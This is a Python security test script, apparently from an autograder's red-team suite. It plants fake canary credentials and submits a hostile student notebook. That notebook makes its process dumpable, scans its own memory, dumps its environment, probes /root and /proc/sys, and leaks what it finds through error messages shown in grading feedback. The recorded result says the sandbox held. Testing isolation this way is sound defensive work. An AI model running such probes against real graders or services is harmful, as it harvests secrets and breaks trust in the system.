"""a02: what the observer's child (where hidden checks call the student's code) and the kernel can see,
and a scan of their whole memory for the grader's secrets.

The grader runs with DATABASE_URL / AWS_SECRET_ACCESS_KEY / DISTCOURSE_DB_URL canaries (R4CANARY...) in its
environment and a canary file in the TA's home (/root/r4-canary.txt, removed after). In the child, the
function makes itself dumpable again (prctl, allowed for self) and reads /proc/self/mem region by region;
it also walks gc objects, lists mounts that are writable, tries /proc/sys, /root, the course folder, and
leaves a marker in /tmp to see whether a later check's child finds it. Results travel in the exception
message the probe shows in the feedback ("your code raised RuntimeError: ...").
Students: "recon" and "honest" (from source/, to check an honest student keeps full marks beside it).
Run as root: the checkout's .venv/bin/python a02_recon_memscan.py
"""
import sys; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.dirname(__import__("os").path.abspath(__file__))))
from attack_course import *

RECON = r'''
import os, sys, gc, ctypes, glob
def _scan_mem(needles=(b"R4CANARY", b"CANARY-PASSWORD")):
    try:
        ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE=1 for myself
    except Exception:
        pass
    hits, regions, err = [], 0, ""
    try:
        maps = open("/proc/self/maps").read().splitlines()
        mem = open("/proc/self/mem", "rb", 0)
        for line in maps:
            a, b = [int(x, 16) for x in line.split()[0].split("-")]
            if "r" not in line.split()[1] or b - a > 1 << 31:
                continue
            try:
                mem.seek(a); data = mem.read(b - a); regions += 1
            except Exception:
                continue
            for n in needles:
                i = data.find(n)
                if i >= 0:
                    hits.append(data[max(0, i - 40):i + 60])
    except Exception as e:
        err = repr(e)
    return f"regions={regions} hits={hits[:5]} err={err}"
def _recon(tag):
    out = [tag, f"uid={os.getuid()} pid={os.getpid()} ppid={os.getppid()} cwd={os.getcwd()}"]
    out.append("sys.path=" + repr(sys.path))
    out.append("env=" + repr({k: v[:60] for k, v in os.environ.items()}))
    rw = []
    for l in open("/proc/self/mountinfo").read().splitlines():
        f = l.split()
        if f[5].startswith("rw"):
            rw.append(f[4] + ":" + f[f.index("-") + 1])
    out.append("rw_mounts=" + " ".join(rw))
    for p in ("/root", "/root/r4-canary.txt", "/tmp", os.path.expanduser("~"), "/proc/sys/kernel/hostname"):
        try:
            out.append(p + "=" + (repr(os.listdir(p))[:200] if os.path.isdir(p) else open(p).read()[:80]))
        except Exception as e:
            out.append(p + "!" + type(e).__name__)
    try:
        open("/proc/sys/kernel/domainname", "w").write("r4")
        out.append("PROCSYS-WRITE-OK")
    except Exception as e:
        out.append("procsys-write!" + type(e).__name__)
    try:
        out.append("marker-before=" + open("/tmp/r4-marker").read())
    except Exception:
        out.append("marker-before=none")
    try:
        open("/tmp/r4-marker", "a").write(tag + ";")
    except Exception as e:
        out.append("marker-write!" + type(e).__name__)
    out.append("procs=" + " ".join(sorted(os.listdir("/proc"), key=lambda s: (len(s), s))[:12]))
    out.append("mem:" + _scan_mem())
    strs = [o for o in gc.get_objects() if isinstance(o, (dict,)) and any(isinstance(v, str) and "R4CANARY" in v for v in o.values())]
    out.append(f"gc_hits={len(strs)}")
    return "\n".join(out)
print(_recon("KERNEL"))
'''

recon = notebook(overrides={
    "training_memory": RECON + "\ndef training_memory(model, optimizer):\n    raise RuntimeError('CHILD1 ' + _recon('child1')[:6000])\n",
    "per_device_memory": RECON.replace('print(_recon("KERNEL"))', '') + "\ndef per_device_memory(num_params, num_devices, strategy, weight_bytes=2, grad_bytes=2, state_bytes=12):\n    raise RuntimeError('CHILD2 ' + _recon('child2')[:6000])\n",
})

if __name__ == "__main__":
    open("/root/r4-canary.txt", "w").write("R4CANARY-TA-HOME\n")
    try:
        dest = make_course("02", {"recon": recon, "honest": honest_nb()})
        open(os.path.join(dest, "secret-canary.txt"), "w").write("R4CANARY-COURSE\n")
        os.environ.update(DATABASE_URL="postgresql://ta:R4CANARY-DBPW@db/x", AWS_SECRET_ACCESS_KEY="R4CANARY-AWS",
                          LD_PRELOAD="")
        grade(dest)
        show(dest)
        outputs(dest, "recon")
        for root, _, files in os.walk(dest):
            for f in files:
                p = os.path.join(root, f)
                if "R4CANARY" in open(p, errors="replace").read() and "canary" not in f:
                    print("CANARY FOUND IN", p)
    finally:
        os.remove("/root/r4-canary.txt")

# RESULT (root, 03:26-03:34 UTC, 439 s): HELD. Kernel (pid 3) and observer child (pid 6, cwd /tmp/observer-*)
# are uid 65534; env is the allow-list only; no canary value (DB password, AWS key, TA-home file, course
# canary) in either process's whole memory (prctl(PR_SET_DUMPABLE,1) then /proc/self/mem: 520 / 472 regions;
# the only hits are the search strings themselves) nor in feedback/autograded/grades.csv/report; /root shows
# only .pyenv (the Python install); /proc/sys write refused (OSError); rw mounts only tmpfs /tmp, /dev/shm,
# own folder. The observer's /tmp persists between checks of one notebook (marker), harmless.
# honest 24/24 auto (+6 manual) beside it; recon 0/30. Note: recon's grading took 292 s (memory scans).
